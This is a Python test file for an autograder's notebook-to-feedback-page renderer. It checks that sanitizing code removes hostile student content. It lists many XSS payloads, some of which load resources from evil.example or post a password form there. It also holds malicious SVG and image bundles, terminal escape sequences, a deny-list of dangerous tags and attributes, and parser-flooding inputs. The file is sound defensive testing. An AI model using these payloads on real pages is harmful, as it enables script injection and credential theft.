"""What a stranger's notebook may hold, and what must not come of it on an instructor's or student's screen."""

from __future__ import annotations

import base64
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
from graded_class import CLASS, ONE_PIXEL, Work, build_course, notebook_of
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from autograder.feedback import feedback_page
from autograder.feedback.cells import code
from autograder.feedback.clean import MOST_HTML, clean_figure, clean_html, clean_text, picture
from autograder.feedback.markdown import markdown, maths
from autograder.feedback.outputs import show_outputs
from autograder.plain import plain
from autograder.receipts import receipts
from autograder.rules.coursefile import Course

SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}<circle cx="4" cy="4" r="3"/></svg>'
EVIL = "https://evil.example/x"
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    f'<img src="{EVIL}.png">',
    f'<img srcset="{EVIL}.png 2x" src="data:image/png;base64,{ONE_PIXEL}">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    f'<img src="data:image/svg+xml;base64,{base64.b64encode(b"<svg onload=alert(1)>").decode()}">',
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a><a href="../../../other">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    f"<style>@import url({EVIL}.css); body {{ display: none }}</style>",
    f"<div style=\"position:fixed;inset:0;background:url({EVIL})\">You passed</div>",
    f"<link rel=stylesheet href={EVIL}.css><meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<form action={EVIL}><input name=password><button formaction={EVIL}>Log in</button></form>",
    f"<video src={EVIL} poster={EVIL}></video><audio src={EVIL}></audio><track src={EVIL}>",
    '<div id="receipt" class="score" onclick="x()">15 of 15</div>',
    "</main></body></html><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<table background=x><tr><td style='x' colspan=999999999>1</td></tr></table>",
    "<marquee onstart=alert(1)>x</marquee><plaintext>",
    "&#x202E;evil&#x2066;",
    "<b>" * 20_000,
]  # fmt: skip
BUNDLES: list[dict[str, Any]] = [
    {"image/svg+xml": SVG.format("<script>alert(1)</script>")},
    {"image/svg+xml": SVG.format("") .replace("<circle", "<circle onclick='alert(1)'")},
    {"image/svg+xml": SVG.format(f'<image href="{EVIL}.png"/>')},
    {"image/svg+xml": SVG.format(f"<style>@import '{EVIL}';</style>")},
    {"image/svg+xml": SVG.format("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>")},
    {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("")},
    {"image/png": "not base64 at all!"},
    {"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()},
    {"image/png": '"><script>alert(1)</script>'},
    {"image/png": 7, "text/plain": ["a", 3, None]},
    {"image/jpeg": None},
    {"text/html": ["<script>", "alert(1)</script>"]},
    {"text/markdown": "[x](javascript:alert(1)) ![y](https://evil.example/x.png) <img src=x onerror=alert(1)>"},
    {"text/latex": r"$\href{javascript:alert(1)}{x} \text{<script>alert(1)</script>}$"},
    {"application/javascript": "alert(1)"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    {},
]  # fmt: skip


class Parsed(HTMLParser):
    """Every tag with its attributes, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    found = Parsed(html)
    for tag, attributes in found.tags:
        assert tag not in {"script", "iframe", "object", "embed", "link", "base", "form", "input", "button", "video"}
        assert tag not in {"audio", "foreignobject", "template", "noscript", "marquee", "plaintext", "maction", "image"}
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"srcset", "background", "formaction", "xlink:href", "poster", "action"}
            bare = re.sub(r"[\s\x00-\x20]", "", value).lower()
            assert not bare.startswith(("javascript:", "vbscript:", "data:text", "//")), (tag, name, value)
            if name == "src":
                assert bare.startswith(("data:image/png;base64,", "data:image/jpeg;base64,", "data:image/svg+xml;"))
            if name == "href":
                assert bare.startswith(("#", "https://", "http://", "mailto:"))
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f\x7f]", html)


def assert_no_own_place(html: str) -> None:
    """Nothing of a student's styles, names or reaches into the page."""
    for _, attributes in Parsed(html).tags:
        assert not {"style", "id", "class", "name"} & set(attributes)


@pytest.mark.parametrize("html", HTML)
def test_html_is_harmless(html: str) -> None:
    cleaned = clean_html(html)
    assert_harmless(cleaned)
    assert_no_own_place(cleaned)


@pytest.mark.parametrize("html", HTML)
def test_markdown_is_harmless(html: str) -> None:
    for source in (html, f"# x\n\n{html}\n", f"`a` [b]({html})", f"| a |\n|---|\n| {html} |"):
        assert_harmless(markdown(source))


@pytest.mark.parametrize("html", HTML)
def test_code_and_printed_text_are_only_text(html: str) -> None:
    for shown in (code(f"x = '''{html}'''"), clean_text(html)):
        assert_harmless(shown)
        assert {tag for tag, _ in Parsed(shown).tags} <= {"pre", "code", "span", "p"}


@pytest.mark.parametrize("bundle", BUNDLES)
def test_outputs_are_harmless(bundle: dict[str, Any]) -> None:
    for kind in ("display_data", "execute_result"):
        assert_harmless(show_outputs([{"output_type": kind, "data": bundle, "metadata": None}]))


@pytest.mark.parametrize(
    "output",
    [
        {},
        {"output_type": "stream"},
        {"output_type": "stream", "text": ["a", "b"]},
        {"output_type": "stream", "text": 5},
        {"output_type": "error"},
        {"output_type": "error", "ename": "<b>", "evalue": "\x1b[31m<script>", "traceback": "no list"},
        {"output_type": "error", "ename": "E", "evalue": "", "traceback": [1, None, "<script>alert(1)</script>"]},
        {"output_type": "display_data", "data": "text"},
        {"output_type": "display_data", "data": {"image/png": ONE_PIXEL}, "metadata": {"image/png": "alt"}},
        {"output_type": "display_data", "data": {"image/png": ONE_PIXEL}, "metadata": {"image/png": {"alt": '"><b'}}},
        {"output_type": "surprise", "data": {"text/html": "<script>"}},
    ],
)  # fmt: skip
def test_odd_outputs_do_not_stop_the_page(output: dict[str, Any]) -> None:
    assert_harmless(show_outputs([output]))


@pytest.mark.parametrize("bundle", [bundle for bundle in BUNDLES if "image/svg+xml" in bundle])
def test_an_svg_that_would_run_or_load_something_is_not_shown(bundle: dict[str, Any]) -> None:
    shown = show_outputs([{"output_type": "display_data", "data": bundle}])
    assert "<img" not in shown
    assert "it is not shown" in shown


def test_a_plain_svg_is_shown_as_a_picture() -> None:
    shown = picture("image/svg+xml", SVG.format(""), "A circle")
    assert Parsed(shown).tags[0][0] == "img"
    assert 'alt="A circle"' in shown


def test_good_html_stays() -> None:
    table = '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>'
    assert clean_html(table) == table
    assert clean_html(f'<img src="data:image/png;base64,{ONE_PIXEL}" alt="x">').startswith("<img src=")
    assert 'href="https://pytorch.org"' in clean_html('<a href="https://pytorch.org">docs</a>')


def test_floods_are_cut_with_a_word() -> None:
    many = show_outputs([{"output_type": "stream", "text": f"{number}\n"} for number in range(500)])
    assert "480 more outputs are left out here." in many
    lines = clean_text("\n".join(str(number) for number in range(2_000)))
    assert "1,800 more lines are left out here." in lines
    assert len(clean_text("x" * 10_000_000)) < 30_000
    assert "too long" in clean_html("<p>" * MOST_HTML)
    huge = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 4_000_000).decode()
    assert "too large" in picture("image/png", huge, "x")
    assert len(show_outputs([{"output_type": "display_data", "data": {"text/html": "<i>x</i>" * 50_000}}])) < 1_000


@pytest.mark.parametrize(
    "source",
    ["[" * 20_000, "$" * 20_000, "*a " * 6_000, "> " * 9_000, "- " * 9_000, "`" * 20_000, "<" * 20_000, "![" * 9_000,
     "$$x" * 6_000, "\\begin{a}" * 2_000, "| a " * 4_000 + "\n" + "|-" * 4_000, "#" * 20_000, "\ud800 \x00",
     "![gone](attachment:gone.png)", "$" + "{" * 1_900 + "$", "$" + r"\frac{" * 300 + "$", r"$\sqrt" * 300, "$$\n$$"],
)  # fmt: skip
def test_markdown_that_chokes_parsers_still_shows(source: str) -> None:
    shown = markdown(source, attachments={"a": 3, "b": {"image/png": 5}})
    assert_harmless(shown)
    shown.encode("utf-8")


@pytest.mark.parametrize("latex", ["", r"\frac{", r"\no{x}", "a" * 5_000, r"\text{<script>alert(1)</script>}", "{{{{"])
def test_formulas_that_cannot_be_read_stay_readable(latex: str) -> None:
    assert_harmless(clean_html(maths(latex)))


def test_a_figure_of_the_kit_keeps_its_drawing_and_nothing_else() -> None:
    drawn = SVG.format('<g onclick="x()"><script>alert(1)</script><text x="1" y="2">w = 3</text></g>')
    shown = clean_figure(drawn)
    assert_harmless(shown)
    assert 'viewBox="0 0 9 9"' in shown
    assert "w = 3" in shown


@pytest.mark.parametrize(
    ("text", "harmless"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title\x1b\\after", "after"),
        ("\x1bPq#0\x1b\\x", "x"),
        ("\x9b31mred", "red"),
        ("10 %\r50 %\r100 %\n", "100 %\n"),
        ("a\r\nb", "a\nb"),
        ("\x00\x07\x08a\x7f", "a"),
        ("\u202egnp.exe", "[U+202E]gnp.exe"),
        ("tab\there", "tab\there"),
        ("\ud800", "\N{REPLACEMENT CHARACTER}"),
        ("naïve 漢字 עברית", "naïve 漢字 עברית"),
        ("\x1b", ""),
    ],
)
def test_text_is_made_plain(text: str, harmless: str) -> None:
    assert plain(text) == harmless


# One notebook that holds all of it.


def hostile_cells() -> Iterator[NotebookNode]:
    for html in HTML:
        yield new_markdown_cell(html)
        yield new_code_cell(f"# {html[:2000]}", outputs=[new_output("display_data", {"text/html": html})])
    for bundle in BUNDLES:
        texts = {kind: value for kind, value in bundle.items() if isinstance(value, str)}
        yield new_code_cell("show()", outputs=[new_output("display_data", texts)])
    yield new_code_cell("print('x' * 9**9)", outputs=[new_output("stream", text="wide" * 20_000)])
    yield new_code_cell("rtl = '\u202eevil\u2066'", outputs=[new_output("stream", text="\x1b]0;x\x07\x1b[2J\u202e")])
    yield NotebookNode(cell_type="raw", source="<script>alert(1)</script>", metadata={}, id="raw")
    yield NotebookNode(cell_type="code", source="no_outputs = 1", metadata={"nbgrader": "not a table"}, id="bare")
    odd = {"grade_id": '"><script>alert(1)</script>', "grade": True, "solution": True, "locked": False, "points": 1}
    yield NotebookNode(cell_type="code", source="x", metadata={"nbgrader": odd}, id="odd", outputs=[])


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    evil = Work("s666", '"><script>alert(1)</script>', "\u202e<img src=x onerror=alert(1)>")
    return build_course(tmp_path_factory.mktemp("course"), (CLASS[1], evil))


@pytest.fixture(scope="module")
def page(course: Course) -> str:
    receipt = next(receipt for receipt in receipts(course, "hw1") if receipt.student == "s666")
    notebook = notebook_of(CLASS[1])
    notebook.cells += list(hostile_cells())
    notebook.metadata["first_descent"] = {"verdicts": 3}
    return feedback_page(course, receipt, notebook)


def test_the_whole_page_is_harmless(page: str) -> None:
    assert_harmless(page)
    assert page.rstrip().endswith("</html>")
    assert page.count("</main>") == 1
    assert [tag for tag, attributes in Parsed(page).tags if attributes.get("id") == "receipt"] == ["h2"]
    assert len(page) < 3_000_000


@pytest.mark.parametrize(
    "notebook",
    [
        {"cells": [], "metadata": {}},
        {"cells": [{"cell_type": "code", "source": "", "metadata": {}}], "metadata": {}},
        {"cells": [{"cell_type": "markdown", "source": "", "metadata": {}}], "metadata": {"first_descent": None}},
        {"cells": [{"cell_type": "unheard of", "source": "<script>", "metadata": {}}], "metadata": {}},
        {"cells": [{"cell_type": "code", "source": "x", "metadata": {"nbgrader": {"grade": True}}}], "metadata": {}},
    ],
)
def test_odd_notebooks_have_a_page(course: Course, notebook: dict[str, Any]) -> None:
    receipt = receipts(course, "hw1")[0]
    node = nbformat.from_dict({**notebook, "nbformat": 4, "nbformat_minor": 5})
    assert_harmless(feedback_page(course, receipt, node))


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("width", [360, 1200])
def test_a_real_browser_runs_loads_and_overflows_nothing(page: str, tmp_path: Path, width: int) -> None:
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    if chromium is None:
        pytest.skip("no Chromium on this machine")
    playwright = pytest.importorskip("playwright.sync_api")
    file = tmp_path / "page.html"
    file.write_text(page, encoding="utf-8")
    asked: list[str] = []
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox", "--disable-gpu"])
        tab = browser.new_page(viewport={"width": width, "height": 800})
        tab.on("request", lambda request: asked.append(request.url))
        tab.on("dialog", lambda dialog: (asked.append("a dialog"), dialog.dismiss()))
        tab.goto(file.as_uri())
        tab.evaluate("document.querySelectorAll('details').forEach(fold => { fold.open = true; })")
        wide = tab.evaluate("document.documentElement.scrollWidth")
        browser.close()
    assert [url for url in asked if not url.startswith(("data:image/", "file:"))] == []
    assert [url for url in asked if url.startswith("file:")] == [file.as_uri()]
    assert wide <= width
